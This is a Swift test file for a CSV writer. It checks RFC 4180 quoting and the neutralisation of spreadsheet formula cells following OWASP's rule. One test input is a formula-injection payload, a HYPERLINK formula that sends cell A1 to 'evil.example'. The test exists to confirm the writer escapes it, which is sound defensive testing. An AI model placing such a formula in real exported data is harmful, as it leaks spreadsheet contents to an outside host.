import CustosBase
import Foundation
import Testing

/// RFC 4180 quoting of the one CSV writer.
@Suite struct CSVWriterTests {
    @Test func quotingFollowsRFC4180() {
        #expect(CSVWriter.record(["plain", "a,b", "say \"hi\"", "two\nlines", "", "åäö 中文"])
            == "plain,\"a,b\",\"say \"\"hi\"\"\",\"two\nlines\",,åäö 中文\r\n")
    }

    @Test(arguments: [
        ("a,b", "\"a,b\""), ("\"", "\"\"\"\""), ("cr\rhere", "\"cr\rhere\""), ("lf\nhere", "\"lf\nhere\""),
        ("crlf\r\n", "\"crlf\r\n\""), (" lead", "\" lead\""), ("trail ", "\"trail \""), ("\"\u{301}", "\"\"\"\u{301}\""),
    ])
    func fieldsThatNeedQuotes(text: String, expected: String) {
        #expect(CSVWriter.field(text) == expected)
    }

    @Test(arguments: [
        ("=1+1", "'=1+1"), ("+31 20 555", "'+31 20 555"), ("-5", "'-5"), ("@SUM(A1)", "'@SUM(A1)"),
        ("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\""),
        ("\tx", "'\tx"), ("\rx", "\"'\rx\""), ("'=x", "''=x"), ("'plain", "'plain"), ("a=b", "a=b"),
    ])
    func formulaCellsAreNeutralised(text: String, expected: String) {
        // OWASP's rule: a spreadsheet must show these as text, never evaluate them.
        #expect(CSVWriter.field(text) == expected)
    }

    @Test(arguments: ["=1+1", "-5", "'=x", "''@y", "'plain", "'", "", "plain", "\t", "a=b", "==", "'''-"])
    func neutralisationRoundTrips(text: String) {
        #expect(CSVFormula.unescape(CSVFormula.escape(text)) == text)
    }

    @Test func aDocumentCountsRecordsAndUsesItsLineEnding() {
        var crlf = CSVWriter(header: ["id", "note"])
        crlf.append(["1", "x,y"])
        #expect(crlf.text == "id,note\r\n1,\"x,y\"\r\n")
        #expect(crlf.records == 2)
        var lf = CSVWriter(lineEnding: .lf, header: ["id"])
        lf.append(["2"])
        #expect(lf.text == "id\n2\n")
    }
}
